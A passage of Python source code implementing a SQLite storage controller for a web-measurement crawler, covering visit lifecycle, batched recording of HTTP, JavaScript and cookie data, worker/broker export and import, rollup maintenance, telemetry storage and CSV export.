disables maintenance (existing rollups are then marked stale on the
first mutation rather than silently drifting). File-backed databases
run in WAL journal mode so the serving layer's read-only connections
never contend with the crawl writer.
"""

from __future__ import annotations

import hashlib
import os
import sqlite3
import threading
from dataclasses import dataclass
from typing import Any, Dict, List, Optional, Tuple

from repro.serve.rollups import RollupMaintainer, VisitDelta

_SCHEMA = """
CREATE TABLE IF NOT EXISTS site_visits (
    visit_id INTEGER PRIMARY KEY,
    browser_id INTEGER NOT NULL,
    site_url TEXT NOT NULL,
    run_label TEXT DEFAULT ''
);
CREATE TABLE IF NOT EXISTS http_requests (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    visit_id INTEGER NOT NULL,
    browser_id INTEGER NOT NULL,
    url TEXT NOT NULL,
    top_level_url TEXT,
    frame_url TEXT,
    method TEXT,
    resource_type TEXT,
    is_third_party_channel INTEGER,
    headers TEXT,
    post_body TEXT
);
CREATE TABLE IF NOT EXISTS http_responses (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    visit_id INTEGER NOT NULL,
    browser_id INTEGER NOT NULL,
    url TEXT NOT NULL,
    response_status INTEGER,
    content_type TEXT,
    content_hash TEXT
);
CREATE TABLE IF NOT EXISTS javascript (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    visit_id INTEGER NOT NULL,
    browser_id INTEGER NOT NULL,
    top_level_url TEXT,
    document_url TEXT,
    script_url TEXT,
    symbol TEXT,
    operation TEXT,
    value TEXT,
    arguments TEXT,
    call_stack TEXT
);
CREATE TABLE IF NOT EXISTS javascript_cookies (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    visit_id INTEGER NOT NULL,
    browser_id INTEGER NOT NULL,
    record_type TEXT,
    change_cause TEXT,
    host TEXT,
    name TEXT,
    value TEXT,
    path TEXT,
    is_session INTEGER,
    is_http_only INTEGER,
    expiry REAL,
    first_party_domain TEXT,
    via_javascript INTEGER
);
CREATE TABLE IF NOT EXISTS content (
    content_hash TEXT PRIMARY KEY,
    content TEXT,
    url TEXT,
    content_type TEXT
);
CREATE TABLE IF NOT EXISTS crash_history (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    browser_id INTEGER NOT NULL,
    visit_id INTEGER,
    site_url TEXT,
    action TEXT
);
CREATE TABLE IF NOT EXISTS failed_visits (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    browser_id INTEGER,
    site_url TEXT NOT NULL,
    attempts INTEGER,
    reason TEXT
);
CREATE TABLE IF NOT EXISTS quarantined_sites (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    site_url TEXT NOT NULL UNIQUE,
    failures INTEGER,
    reason TEXT,
    quarantined_at REAL
);
CREATE TABLE IF NOT EXISTS telemetry (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    kind TEXT NOT NULL,
    name TEXT NOT NULL,
    labels TEXT DEFAULT '{}',
    value REAL,
    hist_sum REAL,
    hist_count INTEGER,
    bounds TEXT,
    bucket_counts TEXT,
    trace_id TEXT,
    span_id TEXT,
    parent_span_id TEXT,
    start_time REAL,
    end_time REAL,
    status TEXT,
    attributes TEXT
);
"""


@dataclass
class VisitContext:
    """The controller's own notion of the visit being recorded."""

    visit_id: int
    browser_id: int
    site_url: str
    top_level_url: str
    #: Rollup contribution of this visit (``repro.serve``), fed every
    #: buffered row and applied atomically when the visit commits;
    #: ``None`` when rollup maintenance is disabled.
    delta: Optional[VisitDelta] = None


class VisitStateError(RuntimeError):
    """A visit-scoped write arrived with no (or an ambiguous) visit.

    Before per-browser contexts, such records were silently attributed
    to a sentinel or — worse — to whatever visit happened to be current
    (possibly another browser's). Raising makes the mis-attribution bug
    a loud failure instead of corrupt data.
    """


class StorageController:
    """Owns the SQLite database and all writes to it.

    Thread-safe: one connection shared across worker threads, every
    access serialized through ``self._lock``.
    """

    #: INSERT statements for the batched (visit-scoped) tables.
    _BATCHED: Dict[str, str] = {
        "http_requests":
            "INSERT INTO http_requests (visit_id, browser_id, url, "
            "top_level_url, frame_url, method, resource_type, "
            "is_third_party_channel, headers, post_body) "
            "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
        "http_responses":
            "INSERT INTO http_responses (visit_id, browser_id, url, "
            "response_status, content_type, content_hash) "
            "VALUES (?, ?, ?, ?, ?, ?)",
        "javascript":
            "INSERT INTO javascript (visit_id, browser_id, "
            "top_level_url, document_url, script_url, symbol, "
            "operation, value, arguments, call_stack) "
            "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
        "javascript_cookies":
            "INSERT INTO javascript_cookies (visit_id, browser_id, "
            "record_type, change_cause, host, name, value, path, "
            "is_session, is_http_only, expiry, first_party_domain, "
            "via_javascript) "
            "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
        "content":
            "INSERT OR IGNORE INTO content (content_hash, content, "
            "url, content_type) VALUES (?, ?, ?, ?)",
    }

    def __init__(self, database_path: str = ":memory:",
                 rollups: Optional[bool] = None) -> None:
        self.database_path = database_path
        self.connection = sqlite3.connect(database_path,
                                          check_same_thread=False)
        self.connection.row_factory = sqlite3.Row
        self._lock = threading.RLock()
        with self._lock:
            if database_path != ":memory:":
                # WAL lets the serving layer's read-only connections
                # snapshot-read while the crawl writes; busy_timeout
                # rides out the rare write/checkpoint collisions.
                self.connection.execute("PRAGMA journal_mode=WAL")
                self.connection.execute("PRAGMA busy_timeout=10000")
            self.connection.executescript(_SCHEMA)
            # Resume numbering after any visits already in the database
            # (a reopened crawl must not collide with its own past).
            row = self.connection.execute(
                "SELECT MAX(visit_id) AS m FROM site_visits").fetchone()
            self._next_visit_id = int(row["m"] or 0) + 1
            if rollups is None:
                rollups = os.environ.get(
                    "REPRO_ROLLUPS", "").lower() not in ("off", "0",
                                                         "false")
            #: Incremental aggregation into the ``rollups_*`` tables
            #: (``repro.serve``); hooks are invoked on every mutation
            #: path below, inside the caller's transaction.
            self.rollups = RollupMaintainer(self.connection,
                                            enabled=bool(rollups))
        #: Active visits, one slot per browser.
        self._contexts: Dict[int, VisitContext] = {}
        #: Per-table pending row buffers (insertion order preserved).
        self._pending: Dict[str, List[Tuple]] = {
            table: [] for table in self._BATCHED}
        #: Optional :class:`repro.faults.FaultPlan`; when set,
        #: ``begin_visit`` consults it for transient ``storage_busy``
        #: faults before touching the database.
        self.fault_plan: Optional[Any] = None

    # ------------------------------------------------------------------
    # Batched writes
    # ------------------------------------------------------------------
    def _flush_locked(self) -> None:
        """Drain every pending buffer with one executemany per table.

        Caller holds ``self._lock``. Per-table arrival order is kept,
        so AUTOINCREMENT ids match the historical per-record inserts.
        """
        for table, rows in self._pending.items():
            if rows:
                if table == "content":
                    # Content rows are visit-less (they survive visit
                    # aborts) and deduplicated by OR IGNORE, so their
                    # rollup contribution is the *actual* insert count,
                    # booked here rather than through a visit delta.
                    before = self.connection.total_changes
                    self.connection.executemany(
                        self._BATCHED[table], rows)
                    self.rollups.content_inserted(
                        self.connection.total_changes - before)
                else:
                    self.connection.executemany(
                        self._BATCHED[table], rows)
                del rows[:]

    def pending_row_count(self) -> int:
        """Buffered-but-unflushed rows across all batched tables."""
        with self._lock:
            return sum(len(rows) for rows in self._pending.values())

    # ------------------------------------------------------------------
    def journal_directory(self) -> Optional[str]:
        """Where this database's flight-recorder journal lives (the
        ``<db>.journal`` sidecar), or ``None`` for in-memory databases.
        Purely a path convention — the journal itself is owned by the
        telemetry layer, not the storage controller."""
        from repro.obs.journal import journal_path_for

        return journal_path_for(self.database_path)

    # ------------------------------------------------------------------
    # Visit lifecycle
    # ------------------------------------------------------------------
    @property
    def current_visit(self) -> Optional[VisitContext]:
        """The single active visit, or ``None`` (0 or 2+ active)."""
        with self._lock:
            if len(self._contexts) == 1:
                return next(iter(self._contexts.values()))
            return None

    def active_visits(self) -> Dict[int, VisitContext]:
        """Snapshot of every browser's active visit context."""
        with self._lock:
            return dict(self._contexts)

    def handle(self, browser_id: int) -> "BrowserStorageHandle":
        """A write facade with *browser_id* pinned to every record."""
        return BrowserStorageHandle(self, browser_id)

    def begin_visit(self, browser_id: int, site_url: str,
                    run_label: str = "") -> VisitContext:
        if self.fault_plan is not None:
            rule = self.fault_plan.check("storage.begin_visit",
                                         url=site_url)
            if rule is not None and rule.fault == "storage_busy":
                # Raised before any side effect: a transient busy /
                # locked error leaves no partial visit behind.
                raise sqlite3.OperationalError(
                    "database is locked (injected fault)")
        with self._lock:
            if browser_id in self._contexts:
                raise VisitStateError(
                    f"browser {browser_id} already has an active visit "
                    f"({self._contexts[browser_id].site_url!r}); "
                    f"end_visit it before beginning {site_url!r}")
            visit_id = self._next_visit_id
            self._next_visit_id += 1
            self.connection.execute(
                "INSERT INTO site_visits (visit_id, browser_id, site_url, "
                "run_label) VALUES (?, ?, ?, ?)",
                (visit_id, browser_id, site_url, run_label))
            context = VisitContext(
                visit_id=visit_id, browser_id=browser_id,
                site_url=site_url, top_level_url=site_url,
                delta=VisitDelta() if self.rollups.enabled else None)
            self._contexts[browser_id] = context
            return context

    def end_visit(self, browser_id: Optional[int] = None) -> None:
        """Commit and close a visit.

        ``browser_id`` may be omitted only while exactly one visit is
        active (the single-browser legacy call shape).
        """
        with self._lock:
            if browser_id is None:
                if len(self._contexts) != 1:
                    raise VisitStateError(
                        f"end_visit() without browser_id needs exactly "
                        f"one active visit, found {len(self._contexts)}")
                browser_id = next(iter(self._contexts))
            if browser_id not in self._contexts:
                raise VisitStateError(
                    f"browser {browser_id} has no active visit to end")
            # One flush + one commit per visit: the batched rows land
            # in a single transaction — and the visit's rollup delta
            # rides the same transaction, so aggregates and raw rows
            # can never commit apart.
            context = self._contexts[browser_id]
            self._flush_locked()
            self.rollups.visit_committed(
                context.site_url, context.delta or VisitDelta())
            self.connection.commit()
            del self._contexts[browser_id]

    def abort_visit(self, browser_id: int) -> Dict[str, int]:
        """Discard an in-flight visit: delete its rows, drop the context.

        The watchdog's remedy for a hung visit — whatever the visit
        recorded before hanging is incomplete and is removed rather
        than committed. Returns per-table counts of the deleted
        records so the caller can balance its ``records_written``
        accounting (``records_discarded`` counters).
        """
        with self._lock:
            context = self._contexts.get(browser_id)
            if context is None:
                raise VisitStateError(
                    f"browser {browser_id} has no active visit to abort")
            # Flush before deleting so the DELETE rowcounts cover rows
            # still sitting in the batch buffers.
            self._flush_locked()
            discarded: Dict[str, int] = {}
            for table in ("http_requests", "http_responses",
                          "javascript", "javascript_cookies"):
                cursor = self.connection.execute(
                    f"DELETE FROM {table} WHERE visit_id = ?",  # noqa: S608
                    (context.visit_id,))
                discarded[table] = cursor.rowcount
            self.connection.execute(
                "DELETE FROM site_visits WHERE visit_id = ?",
                (context.visit_id,))
            self.connection.commit()
            del self._contexts[browser_id]
            return discarded

    def delete_visit(self, visit_id: int) -> Dict[str, int]:
        """Delete a *committed* visit's rows by id.

        The scheduler's remedy when a completed-and-committed visit
        loses the lease race: another worker has re-leased the job and
        will produce the site's data again, so this copy must go to
        keep ``site_visits`` duplicate-free. Returns per-table counts
        of the deleted records (same shape as :meth:`abort_visit`) so
        the caller can balance its ``records_written`` accounting.
        """
        with self._lock:
            # An expired-lease retraction must catch batched rows the
            # doomed attempt buffered but never flushed.
            self._flush_locked()
            # Fold the doomed visit back out of the rollups while its
            # rows still exist (the voided verdict must vanish from
            # served aggregates exactly as it does from the raw tables).
            self.rollups.visit_retracted(visit_id)
            discarded: Dict[str, int] = {}
            for table in ("http_requests", "http_responses",
                          "javascript", "javascript_cookies"):
                cursor = self.connection.execute(
                    f"DELETE FROM {table} WHERE visit_id = ?",  # noqa: S608
                    (visit_id,))
                discarded[table] = cursor.rowcount
            self.connection.execute(
                "DELETE FROM site_visits WHERE visit_id = ?",
                (visit_id,))
            self.connection.commit()
            return discarded

    # ------------------------------------------------------------------
    # Single-writer broker support (``--worker-procs``)
    # ------------------------------------------------------------------
    #: Column order of the batched tables, matching ``_BATCHED``.
    _BATCHED_COLUMNS: Dict[str, Tuple[str, ...]] = {
        "http_requests": (
            "visit_id", "browser_id", "url", "top_level_url",
            "frame_url", "method", "resource_type",
            "is_third_party_channel", "headers", "post_body"),
        "http_responses": (
            "visit_id", "browser_id", "url", "response_status",
            "content_type", "content_hash"),
        "javascript": (
            "visit_id", "browser_id", "top_level_url", "document_url",
            "script_url", "symbol", "operation", "value", "arguments",
            "call_stack"),
        "javascript_cookies": (
            "visit_id", "browser_id", "record_type", "change_cause",
            "host", "name", "value", "path", "is_session",
            "is_http_only", "expiry", "first_party_domain",
            "via_javascript"),
        "content": ("content_hash", "content", "url", "content_type"),
    }

    def visit_ids_since(self, after_visit_id: int) -> List[int]:
        """Committed visit ids greater than *after_visit_id*, in order.

        The process worker's per-job cursor: everything a job's visit
        attempts committed to the worker-local database (including the
        partial rows a crashed attempt leaves behind, exactly as the
        inline path would) is found here and exported to the broker.
        """
        with self._lock:
            self._flush_locked()
            return [int(row["visit_id"]) for row in self.connection.execute(
                "SELECT visit_id FROM site_visits WHERE visit_id > ? "
                "ORDER BY visit_id", (after_visit_id,))]

    def export_visit(self, visit_id: int) -> Dict[str, Any]:
        """One committed visit's rows, in insertion order, as plain
        tuples — the worker half of the worker→broker envelope.

        ``content`` rows are deliberately absent (they are visit-less
        and deduplicated by hash; see :meth:`export_content_rows`).
        """
        with self._lock:
            self._flush_locked()
            visit_row = self.connection.execute(
                "SELECT * FROM site_visits WHERE visit_id = ?",
                (visit_id,)).fetchone()
            if visit_row is None:
                raise VisitStateError(
                    f"visit {visit_id} is not in site_visits")
            tables: Dict[str, List[Tuple]] = {}
            for table in ("http_requests", "http_responses",
                          "javascript", "javascript_cookies"):
                cols = ", ".join(self._BATCHED_COLUMNS[table])
                tables[table] = [tuple(row) for row in self.connection.execute(
                    f"SELECT {cols} FROM {table} "  # noqa: S608
                    f"WHERE visit_id = ? ORDER BY id", (visit_id,))]
            return {"visit_id": visit_id,
                    "browser_id": int(visit_row["browser_id"]),
                    "site_url": visit_row["site_url"],
                    "run_label": visit_row["run_label"] or "",
                    "tables": tables}

    def export_content_rows(self, after_rowid: int = 0
                            ) -> Tuple[int, List[Tuple]]:
        """``content`` rows past *after_rowid*, plus the new cursor.

        Content rows carry no ``visit_id``; the worker ships them per
        job in first-seen order and the broker re-inserts them with the
        same INSERT OR IGNORE the inline path uses, so the surviving
        rows land in the same first-seen positions.
        """
        with self._lock:
            self._flush_locked()
            rows = self.connection.execute(
                "SELECT rowid, content_hash, content, url, content_type "
                "FROM content WHERE rowid > ? ORDER BY rowid",
                (after_rowid,)).fetchall()
            cursor = int(rows[-1]["rowid"]) if rows else after_rowid
            return cursor, [tuple(row)[1:] for row in rows]

    #: Ledger tables a worker ships by id cursor (column order matches
    #: the coordinator-side re-insert helpers).
    _LEDGER_COLUMNS: Dict[str, Tuple[str, ...]] = {
        "crash_history": ("browser_id", "visit_id", "site_url",
                          "action"),
        "failed_visits": ("browser_id", "site_url", "attempts",
                          "reason"),
        "quarantined_sites": ("site_url", "failures", "reason",
                              "quarantined_at"),
    }

    def export_ledger_rows(self, table: str, after_id: int = 0
                           ) -> Tuple[int, List[Tuple]]:
        """Ledger rows (crash/failed/quarantine) past *after_id*."""
        if table not in self._LEDGER_COLUMNS:
            raise ValueError(f"unknown ledger table {table!r}")
        cols = ", ".join(self._LEDGER_COLUMNS[table])
        with self._lock:
            rows = self.connection.execute(
                f"SELECT id, {cols} FROM {table} "  # noqa: S608
                f"WHERE id > ? ORDER BY id", (after_id,)).fetchall()
            cursor = int(rows[-1]["id"]) if rows else after_id
            return cursor, [tuple(row)[1:] for row in rows]

    def import_visit(self, browser_id: int, site_url: str,
                     run_label: str, tables: Dict[str, List[Tuple]]
                     ) -> int:
        """Write one worker-exported visit under a fresh visit id.

        The broker half of the envelope: allocates the next visit id
        exactly as :meth:`begin_visit` would, rewrites each row's
        leading ``visit_id`` column, and lands everything in one
        transaction. Applying envelopes in job order therefore yields
        the same ids and row order the inline path produces.
        """
        with self._lock:
            self._flush_locked()
            visit_id = self._next_visit_id
            self._next_visit_id += 1
            self.connection.execute(
                "INSERT INTO site_visits (visit_id, browser_id, "
                "site_url, run_label) VALUES (?, ?, ?, ?)",
                (visit_id, browser_id, site_url, run_label))
            delta = VisitDelta() if self.rollups.enabled else None
            for table, rows in tables.items():
                if table not in self._BATCHED or table == "content":
                    raise ValueError(
                        f"cannot import rows for table {table!r}")
                if rows:
                    self.connection.executemany(
                        self._BATCHED[table],
                        [(visit_id,) + tuple(row[1:]) for row in rows])
                    if delta is not None:
                        # Envelope rows are the same tuples the worker
                        # buffered, so the broker's rollup delta goes
                        # through the identical accounting as a live
                        # inline visit.
                        for row in rows:
                            delta.add_row(table, tuple(row))
            self.rollups.visit_committed(site_url,
                                         delta or VisitDelta())
            self.connection.commit()
            return visit_id

    def import_content_rows(self, rows: List[Tuple]) -> None:
        """Re-insert worker-shipped ``content`` rows (OR IGNORE)."""
        if not rows:
            return
        with self._lock:
            before = self.connection.total_changes
            self.connection.executemany(
                self._BATCHED["content"],
                [tuple(row) for row in rows])
            self.rollups.content_inserted(
                self.connection.total_changes - before)
            self.connection.commit()

    def import_ledger_rows(self, table: str, rows: List[Tuple]) -> None:
        """Re-insert worker-shipped ledger rows.

        Column order follows :attr:`_LEDGER_COLUMNS`; the broker remaps
        ``crash_history.visit_id`` to coordinator ids before calling.
        ``quarantined_sites`` keeps its OR IGNORE semantics (one row per
        site) so a re-shipped quarantine cannot double up.
        """
        if table not in self._LEDGER_COLUMNS:
            raise ValueError(f"unknown ledger table {table!r}")
        if not rows:
            return
        cols = self._LEDGER_COLUMNS[table]
        verb = "INSERT OR IGNORE" if table == "quarantined_sites" \
            else "INSERT"
        sql = (f"{verb} INTO {table} ({', '.join(cols)}) "  # noqa: S608
               f"VALUES ({', '.join('?' for _ in cols)})")
        with self._lock:
            if table == "quarantined_sites":
                # Row-at-a-time so the rollup hook learns which rows
                # actually landed (OR IGNORE drops re-shipped ones).
                for row in rows:
                    cursor = self.connection.execute(sql, tuple(row))
                    self.rollups.quarantine_recorded(
                        str(row[0]), cursor.rowcount > 0)
            else:
                self.connection.executemany(
                    sql, [tuple(row) for row in rows])
                for row in rows:
                    if table == "crash_history":
                        self.rollups.crash_recorded(
                            str(row[2] or ""), str(row[3] or ""))
                    else:
                        self.rollups.failed_recorded(
                            str(row[1]), str(row[3] or ""))
            self.connection.commit()

    def _context(self, browser_id: Optional[int] = None) -> VisitContext:
        """Resolve the visit context a record belongs to, or raise."""
        if browser_id is not None:
            context = self._contexts.get(browser_id)
            if context is None:
                raise VisitStateError(
                    f"record for browser {browser_id} arrived outside "
                    f"any visit")
            return context
        if len(self._contexts) == 1:
            return next(iter(self._contexts.values()))
        if not self._contexts:
            raise VisitStateError("record arrived outside any visit")
        raise VisitStateError(
            f"{len(self._contexts)} visits active — records must name "
            f"their browser_id (use StorageController.handle())")

    # ------------------------------------------------------------------
    # Row writers
    # ------------------------------------------------------------------
    def record_http_request(self, url: str, top_level_url: str,
                            frame_url: str, method: str, resource_type: str,
                            is_third_party: bool, headers: str = "",
                            post_body: str = "",
                            browser_id: Optional[int] = None) -> None:
        with self._lock:
            ctx = self._context(browser_id)
            row = (ctx.visit_id, ctx.browser_id, url, top_level_url,
                   frame_url, method, resource_type,
                   int(is_third_party), headers, post_body)
            self._pending["http_requests"].append(row)
            if ctx.delta is not None:
                ctx.delta.add_row("http_requests", row)

    def record_http_response(self, url: str, status: int, content_type: str,
                             content_hash: str = "",
                             browser_id: Optional[int] = None) -> None:
        with self._lock:
            ctx = self._context(browser_id)
            row = (ctx.visit_id, ctx.browser_id, url, status,
                   content_type, content_hash)
            self._pending["http_responses"].append(row)
            if ctx.delta is not None:
                ctx.delta.add_row("http_responses", row)

    def record_content(self, body: str, url: str,
                       content_type: str) -> str:
        content_hash = hashlib.sha256(body.encode()).hexdigest()
        with self._lock:
            self._pending["content"].append(
                (content_hash, body, url, content_type))
        return content_hash

    def record_javascript(self, document_url: str, script_url: str,
                          symbol: str, operation: str, value: str,
                          arguments: str = "", call_stack: str = "",
                          browser_id: Optional[int] = None) -> None:
        """Record one JS API access.

        ``top_level_url`` and ``visit_id`` come from the controller's own
        visit context — the sanitisation that limits the fake-data
        injection attack (RQ6) to the currently visited site.
        """
        with self._lock:
            ctx = self._context(browser_id)
            row = (ctx.visit_id, ctx.browser_id, ctx.top_level_url,
                   document_url, script_url, str(symbol)[:2048],
                   str(operation)[:64], str(value)[:2048],
                   str(arguments)[:2048], str(call_stack)[:4096])
            self._pending["javascript"].append(row)
            if ctx.delta is not None:
                ctx.delta.add_row("javascript", row)

    def record_cookie(self, change_cause: str, host: str, name: str,
                      value: str, path: str, is_session: bool,
                      is_http_only: bool, expiry: Optional[float],
                      first_party: str, via_javascript: bool,
                      browser_id: Optional[int] = None) -> None:
        with self._lock:
            ctx = self._context(browser_id)
            row = (ctx.visit_id, ctx.browser_id, "cookie", change_cause,
                   host, name, value, path, int(is_session),
                   int(is_http_only),
                   expiry if expiry is not None else None, first_party,
                   int(via_javascript))
            self._pending["javascript_cookies"].append(row)
            if ctx.delta is not None:
                ctx.delta.add_row("javascript_cookies", row)

    def record_crash(self, browser_id: int, site_url: str,
                     action: str) -> None:
        with self._lock:
            ctx = self._contexts.get(browser_id)
            self.connection.execute(
                "INSERT INTO crash_history (browser_id, visit_id, "
                "site_url, action) VALUES (?, ?, ?, ?)",
                (browser_id, ctx.visit_id if ctx else None, site_url,
                 action))
            self.rollups.crash_recorded(site_url, action)

    def record_failed_visit(self, browser_id: int, site_url: str,
                            attempts: int, reason: str) -> None:
        """One row per site given up on (the crawl-loss ledger)."""
        with self._lock:
            self.connection.execute(
                "INSERT INTO failed_visits (browser_id, site_url, "
                "attempts, reason) VALUES (?, ?, ?, ?)",
                (browser_id, site_url, attempts, reason))
            self.rollups.failed_recorded(site_url, reason)

    def retract_failed_visits(self, site_url: str) -> int:
        """Delete a site's ``failed_visits`` rows; returns the count.

        The scheduler's remedy when a terminal-failure verdict was
        voided by a lost lease: the ledger row written on exhaustion
        no longer describes the site's fate (a live worker re-runs it
        and may complete or quarantine it instead).
        """
        with self._lock:
            # Decrement the rollups from the rows while they exist.
            self.rollups.failed_retracted(site_url)
            cursor = self.connection.execute(
                "DELETE FROM failed_visits WHERE site_url = ?",
                (site_url,))
            self.connection.commit()
            return cursor.rowcount

    def record_quarantine(self, site_url: str, failures: int,
                          reason: str, quarantined_at: float = 0.0
                          ) -> None:
        """One row per site the circuit breaker gave up on."""
        with self._lock:
            cursor = self.connection.execute(
                "INSERT OR IGNORE INTO quarantined_sites (site_url, "
                "failures, reason, quarantined_at) VALUES (?, ?, ?, ?)",
                (site_url, failures, reason, quarantined_at))
            self.rollups.quarantine_recorded(site_url,
                                             cursor.rowcount > 0)
            self.connection.commit()

    def retract_quarantine(self, site_url: str) -> int:
        """Delete a site's quarantine row; returns the count.

        Used when the quarantine verdict turned out to be stale: a
        voided (lease-lost) hung attempt tripped the breaker after a
        live worker had already completed the site.
        """
        with self._lock:
            cursor = self.connection.execute(
                "DELETE FROM quarantined_sites WHERE site_url = ?",
                (site_url,))
            self.rollups.quarantine_retracted(site_url,
                                              cursor.rowcount)
            self.connection.commit()
            return cursor.rowcount

    def quarantined_rows(self) -> List[Dict[str, Any]]:
        return [dict(row) for row in self.query(
            "SELECT * FROM quarantined_sites ORDER BY id")]

    def commit(self) -> None:
        with self._lock:
            self._flush_locked()
            self.connection.commit()

    # ------------------------------------------------------------------
    # Telemetry persistence
    # ------------------------------------------------------------------
    def persist_telemetry(self, snapshot: Dict[str, Any]) -> int:
        """Store a ``Telemetry.snapshot()`` (spans + metrics).

        Snapshots are cumulative, so any previous snapshot is replaced.
        Returns the number of rows written.
        """
        import json

        with self._lock:
            return self._persist_telemetry_locked(json, snapshot)

    def _persist_telemetry_locked(self, json: Any,
                                  snapshot: Dict[str, Any]) -> int:
        self.connection.execute("DELETE FROM telemetry")
        span_rows = [
            ("span", span["name"], "{}", span["duration"],
             span["trace_id"], span["span_id"], span["parent_id"],
             span["start_time"], span["end_time"], span["status"],
             json.dumps(span.get("attributes", {}), sort_keys=True,
                        default=str))
            for span in snapshot.get("spans", [])]
        if span_rows:
            self.connection.executemany(
                "INSERT INTO telemetry (kind, name, labels, value, "
                "trace_id, span_id, parent_span_id, start_time, end_time, "
                "status, attributes) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, "
                "?, ?)", span_rows)
        metric_rows = [
            (metric["kind"], metric["name"],
             json.dumps(metric.get("labels", {}), sort_keys=True),
             metric.get("value"), metric.get("sum"),
             metric.get("count"),
             json.dumps(metric.get("bounds")) if "bounds" in metric
             else None,
             json.dumps(metric.get("bucket_counts"))
             if "bucket_counts" in metric else None)
            for metric in snapshot.get("metrics", [])]
        if metric_rows:
            self.connection.executemany(
                "INSERT INTO telemetry (kind, name, labels, value, "
                "hist_sum, hist_count, bounds, bucket_counts) "
                "VALUES (?, ?, ?, ?, ?, ?, ?, ?)", metric_rows)
        self.connection.commit()
        return len(span_rows) + len(metric_rows)

    def telemetry_metrics(self) -> List[Dict[str, Any]]:
        """Stored metric rows, back in ``MetricsRegistry.snapshot`` shape."""
        import json

        out = []
        for row in self.query(
                "SELECT * FROM telemetry WHERE kind != 'span' ORDER BY id"):
            metric: Dict[str, Any] = {
                "kind": row["kind"], "name": row["name"],
                "labels": json.loads(row["labels"] or "{}")}
            if row["kind"] == "histogram":
                metric["sum"] = row["hist_sum"]
                metric["count"] = row["hist_count"]
                metric["bounds"] = json.loads(row["bounds"] or "[]")
                metric["bucket_counts"] = json.loads(
                    row["bucket_counts"] or "[]")
            else:
                metric["value"] = row["value"]
            out.append(metric)
        return out

    def telemetry_spans(self) -> List[Dict[str, Any]]:
        """Stored span rows, back in ``Tracer.snapshot`` shape."""
        import json

        out = []
        for row in self.query(
                "SELECT * FROM telemetry WHERE kind = 'span' ORDER BY id"):
            out.append({
                "name": row["name"], "trace_id": row["trace_id"],
                "span_id": row["span_id"],
                "parent_id": row["parent_span_id"],
                "start_time": row["start_time"],
                "end_time": row["end_time"], "duration": row["value"],
                "status": row["status"],
                "attributes": json.loads(row["attributes"] or "{}")})
        return out

    def telemetry_metric_value(self, name: str, **labels: str) -> float:
        """One stored counter/gauge value (0.0 when absent)."""
        import json

        wanted = {str(k): str(v) for k, v in labels.items()}
        for metric in self.telemetry_metrics():
            if metric["name"] == name and metric.get("labels",
                                                     {}) == wanted:
                return float(metric.get("value") or 0.0)
        return 0.0

    def failed_visit_rows(self) -> List[Dict[str, Any]]:
        return [dict(row)
                for row in self.query("SELECT * FROM failed_visits")]

    # ------------------------------------------------------------------
    # Queries
    # ------------------------------------------------------------------
    def query(self, sql: str, params: Tuple = ()) -> List[sqlite3.Row]:
        with self._lock:
            # Reads must observe rows still sitting in the batch buffers.
            self._flush_locked()
            return list(self.connection.execute(sql, params))

    def javascript_records(self, visit_id: Optional[int] = None
                           ) -> List[Dict[str, Any]]:
        sql = "SELECT * FROM javascript"
        params: Tuple = ()
        if visit_id is not None:
            sql += " WHERE visit_id = ?"
            params = (visit_id,)
        return [dict(row) for row in self.query(sql, params)]

    def http_request_rows(self, visit_id: Optional[int] = None
                          ) -> List[Dict[str, Any]]:
        sql = "SELECT * FROM http_requests"
        params: Tuple = ()
        if visit_id is not None:
            sql += " WHERE visit_id = ?"
            params = (visit_id,)
        return [dict(row) for row in self.query(sql, params)]

    def cookie_rows(self, visit_id: Optional[int] = None
                    ) -> List[Dict[str, Any]]:
        sql = "SELECT * FROM javascript_cookies"
        params: Tuple = ()
        if visit_id is not None:
            sql += " WHERE visit_id = ?"
            params = (visit_id,)
        return [dict(row) for row in self.query(sql, params)]

    def saved_scripts(self) -> List[Dict[str, Any]]:
        return [dict(row) for row in self.query(
            "SELECT * FROM content WHERE content_type LIKE '%javascript%'")]

    # ------------------------------------------------------------------
    # Export
    # ------------------------------------------------------------------
    TABLES = ("site_visits", "http_requests", "http_responses",
              "javascript", "javascript_cookies", "content",
              "crash_history", "failed_visits", "quarantined_sites",
              "telemetry")

    def export_table_csv(self, table: str, path: str) -> int:
        """Write one table to CSV; returns the number of rows written.

        Table names are validated against the schema (identifiers cannot
        be parameterised in SQL).
        """
        import csv

        if table not in self.TABLES:
            raise ValueError(f"unknown table {table!r}")
        rows = self.query(f"SELECT * FROM {table}")  # noqa: S608
        with open(path, "w", newline="") as handle:
            writer = csv.writer(handle)
            if rows:
                writer.writerow(rows[0].keys())
                for row in rows:
                    writer.writerow(tuple(row))
        return len(rows)

    def export_all_csv(self, directory: str) -> Dict[str, int]:
        """Dump every table to ``<directory>/<table>.csv``."""
        import os

        os.makedirs(directory, exist_ok=True)
        return {table: self.export_table_csv(
            table, os.path.join(directory, f"{table}.csv"))
            for table in self.TABLES}

    def close(self) -> None:
        with self._lock:
            self._flush_locked()
            self.connection.commit()
            self.connection.close()


class BrowserStorageHandle:
    """Write facade binding one ``browser_id`` to every record.

    Handed to the per-browser instruments (extension, JS instrument) so
    that, with several browsers visiting concurrently, each record lands
    on *its* browser's visit context — never on whichever visit happens
    to be globally current.
    """

    __slots__ = ("_controller", "browser_id")

    def __init__(self, controller: StorageController,
                 browser_id: int) -> None:
        self._controller = controller
        self.browser_id = browser_id

    @property
    def connection(self) -> sqlite3.Connection:
        return self._controller.connection

    # -- visit lifecycle ----------------------------------------------
    def begin_visit(self, site_url: str,
                    run_label: str = "") -> VisitContext:
        return self._controller.begin_visit(self.browser_id, site_url,
                                            run_label)

    def end_visit(self) -> None:
        self._controller.end_visit(self.browser_id)

    @property
    def current_visit(self) -> Optional[VisitContext]:
        return self._controller.active_visits().get(self.browser_id)

    # -- row writers --------------------------------------------------
